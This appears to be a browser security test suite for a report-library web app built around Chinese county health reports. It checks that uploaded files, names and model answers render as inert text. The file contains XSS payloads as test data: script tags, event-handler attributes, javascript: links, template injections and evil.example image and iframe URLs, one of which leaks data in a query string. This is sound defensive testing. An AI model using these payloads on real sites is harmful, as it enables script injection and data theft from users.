"""What reports, file names, models and people write is text in every page: nothing of it runs, nothing is fetched.

In a real browser, on the real application. The toy model repeats its evidence, so that what an answer says is what the
report says. The fixture ``page`` fails a test on any script error and any request to another host.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

import httpx
import pytest

from tests.browsers import (
    NASTY,
    answered,
    ask,
    choose,
    library,
    needs_chromium,
    people,
    serving,
    sign_in,
    upload,
)

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from tests.browsers import Opener

pytestmark = needs_chromium

HANDLER = '"onmouseover="window.hit=1" innerHTML="<img src=x onerror=window.hit=1>'
LINKS = (
    "[点这里](javascript:window.hit=1)![图](http://evil.example/a.png?d=签约率)"
    "<a href=javascript:window.hit=1>甲</a><svg onload=window.hit=1><script>window.hit=1</script>"
    "{{constructor.constructor('window.hit=1')()}}${window.hit=1}"
)
REPORT = f"""雾岭县卫生健康局2022年工作总结

一、工作完成情况
雾岭县全年新建村卫生室12所{LINKS}{NASTY}。
"""
HTML = f"""<html><head><title>云岭县卫生健康局2022年工作总结</title><script>window.hit=1</script></head>
<body onload="window.hit=1"><h1>云岭县卫生健康局2022年工作总结</h1><p>云岭县全年新建村卫生室15所{NASTY}&lt;script&gt;window.hit=1
&lt;/script&gt;，投入资金300万元。</p><p>组建家庭医生团队21个，开展义诊30场。</p><iframe src="http://evil.example/"></iframe>
<img src="http://evil.example/b.png" onerror="window.hit=1"></body></html>"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    from service.accounts.caller import Role

    home = library(tmp_path_factory.mktemp("nasty"))
    people(home, {"管理": Role.ADMINISTRATOR})
    with serving(home, "--users") as address:
        yield address


@pytest.fixture
def shown(site: str, page: Opener) -> Page:
    made = page()
    sign_in(made, site, "管理", "/library")
    return made


def unharmed(shown: Page) -> bool:
    """Whether nothing has run and nothing of what was written became an element."""
    foreign = "img[src=x], svg[onload], [onmouseover], a[href^='javascript'], iframe, img[src*='evil']"
    return shown.evaluate("window.hit") is None and not shown.locator(foreign).count()


def test_reports_of_every_kind_and_what_a_model_makes_of_them(site: str, shown: Page) -> None:
    upload(
        shown,
        [
            {"name": f"雾岭{NASTY}.txt", "mimeType": "text/plain", "buffer": REPORT.encode()},
            {"name": f"云岭{HANDLER}.html", "mimeType": "text/html", "buffer": HTML.encode()},
        ],
    )
    shown.get_by_text("新入库2个文件").wait_for(timeout=30000)
    assert unharmed(shown)
    for place, words in (("雾岭县", "javascript:window.hit=1"), ("云岭县", "新建村卫生室15所")):
        shown.goto(f"{site}/library")
        shown.get_by_label("查找").fill(place)
        shown.locator(".q-table a", has_text=place).click()
        shown.get_by_role("heading", name="提纲").wait_for()
        assert words in shown.locator(".wh-read .wh-text").inner_text() and unharmed(shown)
        shown.get_by_role("button", name="原文件文字").click()
        shown.locator(".wh-read .wh-text", has_text=words).wait_for()
        assert unharmed(shown)
        shown.goto(site)
        ask(shown, f"{place}2022年新建村卫生室多少所？")
        answered(shown)
        assert unharmed(shown)
        shown.locator(".wh-cite, .wh-evidence").first.click()
        shown.locator("mark").first.wait_for()
        assert unharmed(shown)


def test_even_what_becomes_an_element_runs_nothing_by_its_attributes(site: str, shown: Page) -> None:
    """The policy of the pages stops it, were a text ever put into one as markup; no page needs such attributes."""
    refused: list[str] = []
    shown.on("console", lambda said: refused.append(said.text) if "Content Security" in said.text else None)
    for path in (
        "/",
        "/library",
        "/figures",
        "/summary",
        "/compare",
        "/review",
        "/draft",
        "/settings",
        "/account",
    ):
        shown.goto(f"{site}{path}")
        shown.locator(".q-page, main").first.wait_for()
        shown.wait_for_timeout(200)
    assert not refused
    shown.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", NASTY)
    shown.wait_for_timeout(500)
    assert shown.evaluate("window.hit") is None and len(refused) == 1


def test_names_that_people_give(site: str, shown: Page) -> None:
    """Of a place, a conversation, a key and a collection, wherever they are shown."""
    shown.get_by_label("查找").fill("栗坪")
    shown.locator(".q-table a", has_text="栗坪县").click()
    shown.get_by_role("heading", name="提纲").wait_for()
    changed = shown.evaluate(
        """async place => {
            const me = await (await fetch('/api/v1/me')).json();
            const id = location.pathname.split('/').pop();
            const headers = {'X-CSRF-Token': me.csrf, 'Content-Type': 'application/json'};
            const sent = {method: 'PATCH', headers, body: JSON.stringify({place})};
            return (await fetch(`/api/v1/reports/${id}`, sent)).status;
        }""",
        f"栗坪{HANDLER}县",
    )
    assert changed == 200
    shown.reload()
    shown.get_by_role("heading", name="提纲").wait_for()
    assert unharmed(shown)
    for path in ("/library", "/figures", "/compare", "/summary"):
        shown.goto(f"{site}{path}")
        shown.get_by_role("heading").first.wait_for()
        shown.wait_for_timeout(300)
        assert unharmed(shown), path
    shown.goto(site)
    ask(shown, f"栗坪{HANDLER}县2022年存在哪些问题？")
    answered(shown)
    assert unharmed(shown)
    shown.locator(".wh-talk.on").get_by_role("button", name="改名或删除").click()
    shown.get_by_role("menuitem", name="改名").click()
    shown.get_by_label("会话名称").fill(f"会话{HANDLER}{NASTY}")
    shown.get_by_role("button", name="保存").click()
    shown.locator(".wh-talk.on", has_text="会话").wait_for()
    shown.goto(f"{site}/account")
    shown.get_by_label("用途").fill(f"密钥{NASTY}")
    choose(shown, "最高角色", "只读运行指标")
    shown.get_by_role("button", name="生成").click()
    key = shown.locator(".wh-code").inner_text()
    shown.get_by_role("button", name="我已保存").click()
    shown.get_by_text(f"密钥{NASTY}").wait_for()
    shown.locator(".wh-tag", has_text="只读运行指标").wait_for()
    assert unharmed(shown)
    header = {"Authorization": f"Bearer {key}"}
    assert httpx.get(f"{site}/metrics", headers=header, trust_env=False).status_code == 200
    assert httpx.get(f"{site}/api/v1/reports", headers=header, trust_env=False).status_code == 403
    shown.goto(f"{site}/settings")
    shown.get_by_role("tab", name="资料库管理").click()
    shown.get_by_label("名称", exact=True).first.fill(f"库{NASTY}")
    shown.get_by_role("button", name="新建").click()
    shown.wait_for_timeout(500)
    shown.get_by_role("tab", name="操作记录").click()
    shown.get_by_role("button", name="导出表格").wait_for()
    assert unharmed(shown)
    shown.reload()
    shown.get_by_role("tab", name="关于").wait_for()
    assert unharmed(shown)
